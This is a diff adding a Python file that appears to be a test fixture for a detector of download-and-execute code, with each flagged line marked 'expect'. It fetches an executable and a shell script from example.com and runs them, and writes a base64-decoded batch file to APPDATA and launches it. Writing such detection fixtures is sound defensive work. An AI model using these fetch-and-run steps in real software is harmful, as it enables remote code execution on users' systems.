@@ -1,0 +1,20 @@
+import base64
+import os
+import subprocess
+import tempfile
+import urllib.request
+
+import requests
+
+path = os.path.join(tempfile.gettempdir(), "update.exe")
+with open(path, "wb") as f:
+    f.write(requests.get("https://example.com/update.exe").content)
+subprocess.Popen([path])  # expect
+
+urllib.request.urlretrieve("https://example.com/x.sh", "/tmp/x.sh")
+os.chmod("/tmp/x.sh", 0o755)
+os.system("/tmp/x.sh")  # expect
+
+target = os.environ["APPDATA"] + "\\helper.bat"
+open(target, "w").write(base64.b64decode("QGVjaG8gb2Zm").decode())
+os.startfile(target)  # expect
